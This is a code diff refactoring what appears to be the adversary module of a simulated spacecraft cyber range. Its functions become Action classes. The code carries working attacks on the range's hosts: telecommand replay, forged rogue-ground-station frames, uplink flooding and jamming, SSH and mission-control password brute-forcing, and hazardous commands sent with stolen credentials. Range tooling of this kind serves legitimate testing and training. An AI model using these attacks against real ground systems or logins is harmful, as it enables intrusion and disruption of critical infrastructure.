@@ -10,23 +10,26 @@ a host unreachable). Every loop is bounded by a count or a deadline.
 
 from __future__ import annotations
 
-import hashlib
 import json
-import random
 import socket
 import time
 import urllib.error
 import urllib.request
-from collections import deque
 from collections.abc import Callable
-from dataclasses import dataclass, field
 from typing import Any, Final
 
 from labctl.errors import LabctlError
 from labctl.protocols.pus import PusTc
 from labctl.protocols.tc_frame import Bypass, TcFrame, segment, set_vr_frame
-from labctl.range import wiring
 from labctl.range.adversary import air
+from labctl.range.adversary.action import (
+    Action,
+    Context,
+    Result,
+    action_of,
+    done,
+    failed,
+)
 from labctl.range.hosts.catalog import PLATFORM_APID
 from labctl.spec import builtin_vocabulary as vocab
 from labctl.spec.params import wordlist
@@ -37,87 +40,8 @@ MAX_HTTP_BODY: Final = 64 * 1024
 #: Octets of random payload in a flood frame, and in a jamming burst.
 FLOOD_PAYLOAD: Final = (8, 64)
 JAM_BURST: Final = (32, 256)
-#: Noise datagrams per second when jamming: four times the rf-link's default threshold.
-JAM_RATE: Final = 2000
-#: Datagrams remembered as the adversary's own (a flood burst is a few thousand).
-OWN_FRAMES: Final = 20_000
 #: Plaintext SDLS baseline: a 4-octet sequence number after the SPI.
 CLEAR_SN_OCTETS: Final = 4
-
-
-@dataclass(frozen=True)
-class Targets:
-    """Where the instance's hosts are, by their names on the instance's networks."""
-
-    uplink_in: tuple[str, int] = (wiring.RF_LINK, wiring.UPLINK_IN)
-    uplink_air: int = wiring.UPLINK_AIR
-    downlink_air: int = wiring.DOWNLINK_AIR
-    listen: str = "0.0.0.0"
-    mission_control: str = wiring.MISSION_CONTROL_URL
-    ssh: tuple[str, int] = (wiring.GROUND_STATION, wiring.SSH_PORT)
-
-
-class OwnFrames:
-    """Digests of the last ``size`` datagrams sent (a bounded set, oldest forgotten)."""
-
-    def __init__(self, size: int = OWN_FRAMES) -> None:
-        self.size = size
-        self._order: deque[bytes] = deque()
-        self._set: set[bytes] = set()
-
-    @staticmethod
-    def _digest(datagram: bytes) -> bytes:
-        return hashlib.blake2b(datagram, digest_size=12).digest()
-
-    def add(self, datagram: bytes) -> None:
-        digest = self._digest(datagram)
-        if digest in self._set:
-            return
-        self._order.append(digest)
-        self._set.add(digest)
-        if len(self._order) > self.size:
-            self._set.discard(self._order.popleft())
-
-    def __contains__(self, datagram: object) -> bool:
-        return isinstance(datagram, bytes) and self._digest(datagram) in self._set
-
-
-@dataclass
-class Context:
-    """What actions share: targets, bounds, clocks and the link facts learnt so far."""
-
-    targets: Targets = field(default_factory=Targets)
-    #: Longest wait for uplink frames to replay, or for any frame to learn the SCID.
-    listen_timeout: float = 120.0
-    #: Gap between frames of one replay or injection (lets FARM-1 take them in order).
-    gap: float = 0.3
-    http_timeout: float = 10.0
-    ssh_timeout: float = 10.0
-    jam_rate: int = JAM_RATE
-    clock: Callable[[], float] = time.monotonic
-    sleep: Callable[[float], None] = time.sleep
-    rng: random.Random = field(default_factory=random.Random)
-    #: (SCID, VCID) learnt from the air, kept for later actions.
-    link: tuple[int, int] | None = None
-    #: What this adversary transmitted: the rf-link relays it back onto the air, and a
-    #: replay must not pick up the adversary's own flood.
-    own: OwnFrames = field(default_factory=OwnFrames)
-
-
-@dataclass
-class Result:
-    outcome: str
-    success: bool | None
-    detail: str
-    facts: dict[str, Any] = field(default_factory=dict)
-
-
-def done(detail: str, success: bool | None = None, **facts: Any) -> Result:
-    return Result("done", success, detail, facts)
-
-
-def failed(detail: str, **facts: Any) -> Result:
-    return Result("failed", None, detail, facts)
 
 
 def now_ms() -> float:
@@ -132,106 +56,128 @@ def frame_facts(frame: TcFrame, spi: int | None, sn: int | None, sent: float) ->
 
 
 # -- radio ---------------------------------------------------------------------------------
-def replay_telecommands(args: vocab.ReplayTelecommands, ctx: Context) -> Result:
-    """Capture ``count`` AD frames off the uplink air, then replay each in sequence."""
-    t = ctx.targets
-    heard = air.capture_ad(
-        t.uplink_air, args.count, ctx.listen_timeout, t.listen, ignore=ctx.own.__contains__
-    )
-    if not heard:
-        return failed(f"no uplink AD frame heard within {ctx.listen_timeout:g} s", frames=[])
-    ctx.link = (heard[0].frame.scid, heard[0].frame.vcid)
-    if args.delay:
-        ctx.sleep(args.delay)
-    frames = []
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        for item in heard:
-            frame = item.frame
-            after = (frame.seq + 1) % MODULUS
-            _send(sock, ctx, set_vr_frame(frame.scid, frame.vcid, frame.seq).encode())
-            sent = now_ms()
-            _send(sock, ctx, item.raw)
-            _send(sock, ctx, set_vr_frame(frame.scid, frame.vcid, after).encode())
-            frames.append(frame_facts(frame, *air.sdls_facts(frame), sent))
-    missing = args.count - len(heard)
-    short = f" ({missing} fewer than asked: no more heard)" if missing else ""
-    return done(f"replayed {len(heard)} uplink frame(s){short}", None, frames=frames)
+class ReplayTelecommandsAction(Action[vocab.ReplayTelecommands]):
+    name = "replay_telecommands"
+    Args = vocab.ReplayTelecommands
 
-
-def inject_frames(args: vocab.InjectFrames, ctx: Context) -> Result:
-    """Forge one TC (service, subtype, app data) as a rogue ground station."""
-    link = _link(ctx)
-    if link is None:
-        return failed(f"no frame heard within {ctx.listen_timeout:g} s: SCID unknown", frames=[])
-    scid, vcid = link
-    packet = PusTc(PLATFORM_APID, args.service, args.subtype, bytes.fromhex(args.app_data))
-    sn: int | None = None
-    header = b""
-    if args.spi is not None:
-        sn = int(time.time()) & ((1 << (8 * CLEAR_SN_OCTETS)) - 1)
-        header = args.spi.to_bytes(2, "big") + sn.to_bytes(CLEAR_SN_OCTETS, "big")
-    data = segment(0, header + packet.encode())
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        if args.bypass:
-            frame = TcFrame(scid, vcid, data, 0, Bypass.TYPE_B)
-        else:
-            seq = ctx.rng.randrange(MODULUS)
-            frame = TcFrame(scid, vcid, data, seq, Bypass.TYPE_A)
-            _send(sock, ctx, set_vr_frame(scid, vcid, seq).encode())
-        sent = now_ms()
-        _send(sock, ctx, frame.encode())
-    kind = "BD" if args.bypass else "AD"
-    what = f"PUS {args.service}.{args.subtype} in a forged {kind} frame (SCID {scid})"
-    facts = frame_facts(frame, args.spi, sn, sent)
-    return done(f"transmitted {what}", None, frames=[facts], scid=scid)
-
-
-def flood(args: vocab.Flood, ctx: Context) -> Result:
-    """Valid-looking AD frames (random N(S), garbage data) at ``rate`` for ``duration``."""
-    if ctx.link is None:
-        ctx.link = air.learn_link(
-            ctx.targets.uplink_air, ctx.targets.downlink_air, min(3.0, ctx.listen_timeout)
+    def run(self, args: vocab.ReplayTelecommands, ctx: Context) -> Result:
+        """Capture ``count`` AD frames off the uplink air, then replay each in sequence."""
+        t = ctx.targets
+        heard = air.capture_ad(
+            t.uplink_air, args.count, ctx.listen_timeout, t.listen, ignore=ctx.own.__contains__
         )
-    scid, vcid = ctx.link or (ctx.rng.randrange(1024), 0)
+        if not heard:
+            return failed(f"no uplink AD frame heard within {ctx.listen_timeout:g} s", frames=[])
+        ctx.link = (heard[0].frame.scid, heard[0].frame.vcid)
+        if args.delay:
+            ctx.sleep(args.delay)
+        frames = []
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+            for item in heard:
+                frame = item.frame
+                after = (frame.seq + 1) % MODULUS
+                _send(sock, ctx, set_vr_frame(frame.scid, frame.vcid, frame.seq).encode())
+                sent = now_ms()
+                _send(sock, ctx, item.raw)
+                _send(sock, ctx, set_vr_frame(frame.scid, frame.vcid, after).encode())
+                frames.append(frame_facts(frame, *air.sdls_facts(frame), sent))
+        missing = args.count - len(heard)
+        short = f" ({missing} fewer than asked: no more heard)" if missing else ""
+        return done(f"replayed {len(heard)} uplink frame(s){short}", None, frames=frames)
 
-    def frame() -> bytes:
-        size = ctx.rng.randint(*FLOOD_PAYLOAD)
-        garbage = ctx.rng.randbytes(size)
-        return TcFrame(scid, vcid, garbage, ctx.rng.randrange(MODULUS)).encode()
 
-    sent, errors = _paced(ctx, args.rate, args.duration, frame)
-    if not sent:
-        return failed(f"no frame could be sent ({errors} send errors)", sent=0, send_errors=errors)
-    return done(
-        f"{sent} frames to {ctx.targets.uplink_in[0]}:{ctx.targets.uplink_in[1]} "
-        f"in {args.duration} s",
-        None,
-        sent=sent,
-        send_errors=errors,
-        rate=args.rate,
-        scid=scid,
-    )
+class InjectFramesAction(Action[vocab.InjectFrames]):
+    name = "inject_frames"
+    Args = vocab.InjectFrames
+
+    def run(self, args: vocab.InjectFrames, ctx: Context) -> Result:
+        """Forge one TC (service, subtype, app data) as a rogue ground station."""
+        link = _link(ctx)
+        if link is None:
+            return failed(
+                f"no frame heard within {ctx.listen_timeout:g} s: SCID unknown", frames=[]
+            )
+        scid, vcid = link
+        packet = PusTc(PLATFORM_APID, args.service, args.subtype, bytes.fromhex(args.app_data))
+        sn: int | None = None
+        header = b""
+        if args.spi is not None:
+            sn = int(time.time()) & ((1 << (8 * CLEAR_SN_OCTETS)) - 1)
+            header = args.spi.to_bytes(2, "big") + sn.to_bytes(CLEAR_SN_OCTETS, "big")
+        data = segment(0, header + packet.encode())
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+            if args.bypass:
+                frame = TcFrame(scid, vcid, data, 0, Bypass.TYPE_B)
+            else:
+                seq = ctx.rng.randrange(MODULUS)
+                frame = TcFrame(scid, vcid, data, seq, Bypass.TYPE_A)
+                _send(sock, ctx, set_vr_frame(scid, vcid, seq).encode())
+            sent = now_ms()
+            _send(sock, ctx, frame.encode())
+        kind = "BD" if args.bypass else "AD"
+        what = f"PUS {args.service}.{args.subtype} in a forged {kind} frame (SCID {scid})"
+        facts = frame_facts(frame, args.spi, sn, sent)
+        return done(f"transmitted {what}", None, frames=[facts], scid=scid)
 
 
-def jam(args: vocab.Jam, ctx: Context) -> Result:
-    """Noise on the uplink: random bursts (never a frame: their FECF does not check) at the
-    jamming rate for ``duration`` seconds. Above the rf-link's noise threshold (500 a second
-    by default, ``channel.jamming.noise_threshold``) the rf-link jams the uplink: nothing
-    else gets through while the noise lasts."""
+class FloodAction(Action[vocab.Flood]):
+    name = "flood"
+    Args = vocab.Flood
 
-    def burst() -> bytes:
-        return ctx.rng.randbytes(ctx.rng.randint(*JAM_BURST))
+    def run(self, args: vocab.Flood, ctx: Context) -> Result:
+        """Valid-looking AD frames (random N(S), garbage data) at ``rate`` for ``duration``."""
+        if ctx.link is None:
+            ctx.link = air.learn_link(
+                ctx.targets.uplink_air, ctx.targets.downlink_air, min(3.0, ctx.listen_timeout)
+            )
+        scid, vcid = ctx.link or (ctx.rng.randrange(1024), 0)
 
-    sent, errors = _paced(ctx, ctx.jam_rate, args.duration, burst)
-    if not sent:
-        return failed(f"no noise could be sent ({errors} send errors)", sent=0, send_errors=errors)
-    return done(
-        f"{sent} noise bursts ({ctx.jam_rate}/s) on the uplink for {args.duration} s",
-        None,
-        sent=sent,
-        send_errors=errors,
-        rate=ctx.jam_rate,
-    )
+        def frame() -> bytes:
+            size = ctx.rng.randint(*FLOOD_PAYLOAD)
+            garbage = ctx.rng.randbytes(size)
+            return TcFrame(scid, vcid, garbage, ctx.rng.randrange(MODULUS)).encode()
+
+        sent, errors = _paced(ctx, args.rate, args.duration, frame)
+        if not sent:
+            return failed(
+                f"no frame could be sent ({errors} send errors)", sent=0, send_errors=errors
+            )
+        return done(
+            f"{sent} frames to {ctx.targets.uplink_in[0]}:{ctx.targets.uplink_in[1]} "
+            f"in {args.duration} s",
+            None,
+            sent=sent,
+            send_errors=errors,
+            rate=args.rate,
+            scid=scid,
+        )
+
+
+class JamAction(Action[vocab.Jam]):
+    name = "jam"
+    Args = vocab.Jam
+
+    def run(self, args: vocab.Jam, ctx: Context) -> Result:
+        """Noise on the uplink: random bursts (never a frame: their FECF does not check) at the
+        jamming rate for ``duration`` seconds. Above the rf-link's noise threshold (500 a second
+        by default, ``channel.jamming.noise_threshold``) the rf-link jams the uplink: nothing
+        else gets through while the noise lasts."""
+
+        def burst() -> bytes:
+            return ctx.rng.randbytes(ctx.rng.randint(*JAM_BURST))
+
+        sent, errors = _paced(ctx, ctx.jam_rate, args.duration, burst)
+        if not sent:
+            return failed(
+                f"no noise could be sent ({errors} send errors)", sent=0, send_errors=errors
+            )
+        return done(
+            f"{sent} noise bursts ({ctx.jam_rate}/s) on the uplink for {args.duration} s",
+            None,
+            sent=sent,
+            send_errors=errors,
+            rate=ctx.jam_rate,
+        )
 
 
 def _paced(ctx: Context, rate: int, duration: float, make: Callable[[], bytes]) -> tuple[int, int]:
@@ -299,43 +245,47 @@ def mc_login(ctx: Context, username: str, password: str) -> tuple[int, str | Non
     return status, token if isinstance(token, str) else None
 
 
-def brute_force(args: vocab.BruteForce, ctx: Context) -> Result:
-    """Try the word list against SSH or the mission-control login; stop at the first hit."""
-    try:
-        words = wordlist(args.wordlist)[: args.max_attempts]
-    except LabctlError as exc:
-        return failed(str(exc), attempts=0)
-    attempt = _ssh_attempt(ctx) if args.target == "ssh" else _mc_attempt(ctx)
-    tried = 0
-    facts: dict[str, Any] = {"target": args.target, "username": args.username}
-    for word in words:
-        tried += 1
+class BruteForceAction(Action[vocab.BruteForce]):
+    name = "brute_force"
+    Args = vocab.BruteForce
+
+    def run(self, args: vocab.BruteForce, ctx: Context) -> Result:
+        """Try the word list against SSH or the mission-control login; stop at the first hit."""
         try:
-            verdict = attempt(args.username, word)
-        except (OSError, LabctlError) as exc:
-            return failed(
-                f"{args.target} unreachable after {tried - 1} attempts: {exc}",
-                attempts=tried - 1,
-                **facts,
-            )
-        if verdict is True:
-            return done(
-                f"password of {args.username!r} found after {tried} attempt(s)",
-                True,
-                attempts=tried,
-                password=word,
-                **facts,
-            )
-        if verdict is None:
-            return done(
-                f"{args.target} stopped answering logins after {tried} attempt(s)",
-                False,
-                attempts=tried,
-                **facts,
-            )
-    return done(
-        f"no password of {args.username!r} among {tried} tried", False, attempts=tried, **facts
-    )
+            words = wordlist(args.wordlist)[: args.max_attempts]
+        except LabctlError as exc:
+            return failed(str(exc), attempts=0)
+        attempt = _ssh_attempt(ctx) if args.target == "ssh" else _mc_attempt(ctx)
+        tried = 0
+        facts: dict[str, Any] = {"target": args.target, "username": args.username}
+        for word in words:
+            tried += 1
+            try:
+                verdict = attempt(args.username, word)
+            except (OSError, LabctlError) as exc:
+                return failed(
+                    f"{args.target} unreachable after {tried - 1} attempts: {exc}",
+                    attempts=tried - 1,
+                    **facts,
+                )
+            if verdict is True:
+                return done(
+                    f"password of {args.username!r} found after {tried} attempt(s)",
+                    True,
+                    attempts=tried,
+                    password=word,
+                    **facts,
+                )
+            if verdict is None:
+                return done(
+                    f"{args.target} stopped answering logins after {tried} attempt(s)",
+                    False,
+                    attempts=tried,
+                    **facts,
+                )
+        return done(
+            f"no password of {args.username!r} among {tried} tried", False, attempts=tried, **facts
+        )
 
 
 #: One login attempt: True = in, False = refused, None = the target stopped us.
@@ -381,47 +331,51 @@ def _ssh_attempt(ctx: Context) -> Attempt:
     return attempt
 
 
-def hazardous_command(args: vocab.HazardousCommand, ctx: Context) -> Result:
-    """Log in to mission control with stolen credentials and send the command."""
-    try:
-        status, token = mc_login(ctx, args.username, args.password)
-        if token is None:
-            return done(
-                f"login as {args.username!r} refused (HTTP {status})",
-                False,
-                login_status=status,
-                command=args.command,
-            )
-        body = {"name": args.command, "args": dict(args.command_args)}
-        status, reply = http_json(ctx, "POST", "/api/commands", body, token)
-    except OSError as exc:
-        return failed(f"mission control unreachable: {exc}", command=args.command)
-    facts: dict[str, Any] = {"command": args.command, "http_status": status}
-    if status == 201 and isinstance(reply, dict):
-        facts["command_id"] = reply.get("id") if isinstance(reply.get("id"), int) else None
-        return done(f"mission control accepted {args.command} (HTTP 201)", True, **facts)
-    reason = reply.get("detail") if isinstance(reply, dict) else None
-    why = f": {str(reason)[:200]}" if reason else ""
-    return done(f"mission control refused {args.command} (HTTP {status}){why}", False, **facts)
+class HazardousCommandAction(Action[vocab.HazardousCommand]):
+    name = "hazardous_command"
+    Args = vocab.HazardousCommand
+
+    def run(self, args: vocab.HazardousCommand, ctx: Context) -> Result:
+        """Log in to mission control with stolen credentials and send the command."""
+        try:
+            status, token = mc_login(ctx, args.username, args.password)
+            if token is None:
+                return done(
+                    f"login as {args.username!r} refused (HTTP {status})",
+                    False,
+                    login_status=status,
+                    command=args.command,
+                )
+            body = {"name": args.command, "args": dict(args.command_args)}
+            status, reply = http_json(ctx, "POST", "/api/commands", body, token)
+        except OSError as exc:
+            return failed(f"mission control unreachable: {exc}", command=args.command)
+        facts: dict[str, Any] = {"command": args.command, "http_status": status}
+        if status == 201 and isinstance(reply, dict):
+            facts["command_id"] = reply.get("id") if isinstance(reply.get("id"), int) else None
+            return done(f"mission control accepted {args.command} (HTTP 201)", True, **facts)
+        reason = reply.get("detail") if isinstance(reply, dict) else None
+        why = f": {str(reason)[:200]}" if reason else ""
+        return done(f"mission control refused {args.command} (HTTP {status}){why}", False, **facts)
 
 
-Action = Callable[[Any, Context], Result]
-ACTIONS: Final[dict[str, Action]] = {
-    "replay_telecommands": replay_telecommands,
-    "inject_frames": inject_frames,
-    "flood": flood,
-    "jam": jam,
-    "brute_force": brute_force,
-    "hazardous_command": hazardous_command,
-}
+#: The built-in actions, published as the ``labctl.actions`` entry point ``builtin``.
+BUILTIN_ACTIONS: Final[tuple[type[Action[Any]], ...]] = (
+    ReplayTelecommandsAction,
+    InjectFramesAction,
+    FloodAction,
+    JamAction,
+    BruteForceAction,
+    HazardousCommandAction,
+)
 
 
 def run_action(name: str, args: Args, ctx: Context) -> Result:
     """Run one action; whatever goes wrong is a failed outcome, never a crash."""
-    action = ACTIONS.get(name)
+    action = action_of(name)
     if action is None:
         return failed(f"unknown action {name!r}")
     try:
-        return action(args, ctx)
+        return action.run(args, ctx)
     except (OSError, LabctlError, ValueError) as exc:
         return failed(f"{type(exc).__name__}: {exc}"[:500])
